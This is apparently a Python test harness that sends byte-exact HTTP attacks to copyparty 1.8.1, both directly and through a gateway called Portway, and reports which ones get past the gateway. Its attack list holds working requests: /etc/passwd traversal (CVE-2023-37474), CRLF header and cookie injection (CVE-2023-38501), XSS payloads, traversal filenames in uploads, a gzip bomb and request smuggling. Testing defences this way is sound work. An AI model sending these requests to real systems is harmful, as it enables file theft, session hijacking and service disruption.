#!/usr/bin/env python3
"""Attacks an old application twice: at its own address, and through the gateway in front of it.

    attacks.py APPLICATION GATEWAY         # host:port both

Prints a table, one attack a line, and ends with 1 if one of them got through. The application is copyparty 1.8.1, a file server
with two well-known holes (CVE-2023-37474, CVE-2023-38501); the other attacks are of the kinds that any application meets.
Standard library only; every request is written byte by byte, so that no client tidies it up.
"""
import gzip
import socket
import sys

BOUNDARY = "----edge"


def ask(address, request, times=1):
    """All that comes back, the head and the body, until the other side has nothing more to say."""
    host, port = address.rsplit(":", 1)
    got = b""
    with socket.create_connection((host, int(port)), timeout=5) as s:
        s.settimeout(3)
        try:
            s.sendall(request)
            while len(got) < 1 << 20:
                part = s.recv(65536)
                if not part:
                    break
                got += part
        except (TimeoutError, ConnectionError):
            pass
    return got


def get(target, *lines, method="GET", body=b""):
    head = [f"{method} {target} HTTP/1.1", "Host: files.example", "Connection: close", *lines]
    if body:
        head.append(f"Content-Length: {len(body)}")
    return "\r\n".join(head).encode("latin-1") + b"\r\n\r\n" + body


def upload(name, content, kind="application/octet-stream", *lines):
    body = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="act"\r\n\r\nbput\r\n'
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\nContent-Type: {kind}\r\n\r\n'
    ).encode() + content + f"\r\n--{BOUNDARY}--\r\n".encode()
    return get("/in/", f"Content-Type: multipart/form-data; boundary={BOUNDARY}", *lines, method="POST", body=body)


def status(answer):
    try:
        return int(answer.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return 0


def holds(text):
    return lambda answer: text in answer


def answered(answer):
    return 200 <= status(answer) < 400


def two_answers(answer):
    return answer.count(b"HTTP/1.1 ") > 1 and b"root:" not in answer


PASSWD = holds(b"root:x:0:0")
SCRIPT = "%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E"
ATTACKS = [
    # what it is, the request, how to tell that it worked
    ("file of the machine: `/.cpr/%2Fetc%2Fpasswd` (CVE-2023-37474)", get("/.cpr/%2Fetc%2Fpasswd"), PASSWD),
    ("the same, lower case and twice", get("/.cpr/%2f%2fetc%2f%2fpasswd"), PASSWD),
    ("the same, encoded twice", get("/.cpr/%252Fetc%252Fpasswd"), PASSWD),
    ("the same, in absolute form", get("http://files.example/.cpr/%2Fetc%2Fpasswd"), PASSWD),
    ("the same, behind `/in/..`", get("/in/../.cpr/%2Fetc%2Fpasswd"), PASSWD),
    ("the same, with `;` and `\\`", get("/.cpr/;/..%5c%2Fetc%2Fpasswd"), PASSWD),
    ("head of the answer split by `?k304=` (CVE-2023-38501)",
     get("/?k304=y%0D%0A%0D%0A%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), holds(b"\r\n\r\n<img src=x")),
    ("a cookie of the attacker's by `?k304=`", get("/?k304=y%0D%0ASet-Cookie:%20cppwd=evil"), holds(b"\r\nSet-Cookie: cppwd=evil")),
    ("script in the page by `?hc=`", get(f"/?hc={SCRIPT}"), holds(b"<script>alert(1)</script>")),
    ("script in the page, parameter given twice", get(f"/?hc=a&hc={SCRIPT}"), holds(b"<script>alert(1)</script>")),
    ("control panel nobody links to (`?h`)", get("/?h"), answered),
    ("stacks of the server's threads (`?stack`)", get("/?stack"), answered),
    ("directory tree (`?tree=/`)", get("/?tree=/"), answered),
    ("a password cookie set for somebody (`?setck=`)", get("/?setck=cppwd=evil"), holds(b"Set-Cookie")),
    ("WebDAV: `PROPFIND`", get("/", "Depth: 1", method="PROPFIND"), answered),
    ("WebDAV: `OPTIONS` tells what there is", get("/", method="OPTIONS"), holds(b"PROPFIND")),
    ("`PUT` of a page", get("/in/a.html", method="PUT", body=b"<script>alert(1)</script>"), answered),
    ("another method by `X-HTTP-Method-Override`", get("/", "X-HTTP-Method-Override: PROPFIND", "Depth: 1"), lambda answer: status(answer) == 207),
    ("upload of a page with a script", upload("a.html", b"<script>alert(1)</script>", "text/html"), answered),
    ("upload with a path as its name", upload("../../a.txt", b"x", "text/plain"), answered),
    ("upload packed 1,000 to 1", get("/in/", f"Content-Type: multipart/form-data; boundary={BOUNDARY}", "Content-Encoding: gzip",
                                     method="POST", body=gzip.compress(bytes(8 << 20))), answered),
    ("two lengths (request smuggling)", b"POST / HTTP/1.1\r\nHost: files.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
     b"0\r\n\r\nGET /?h HTTP/1.1\r\nHost: files.example\r\nConnection: close\r\n\r\n", two_answers),
    ("a blank before the colon (request smuggling)", get("/", "Transfer-Encoding : chunked"), answered),
    ("head of 200 KB", get("/", "X-Long: " + "a" * 200_000), answered),
    ("page in a frame of another site", get("/"), lambda answer: answered(answer) and b"frame-" not in answer.lower()),
]


def main():
    application, gateway = sys.argv[1:3]
    through = 0
    print("| attack | at the application | through Portway |\n| --- | --- | --- |")
    for name, request, worked in ATTACKS:
        cells = []
        for address in (application, gateway):
            answer = ask(address, request)
            word = str(status(answer) or "closed")
            cells.append(f"**works** ({word})" if worked(answer) else f"refused ({word})")
        through += cells[1].startswith("**")
        print(f"| {name} | {cells[0]} | {cells[1]} |")
    print(f"\n{len(ATTACKS)} attacks, {through} through the gateway")
    sys.exit(1 if through else 0)


if __name__ == "__main__":
    main()
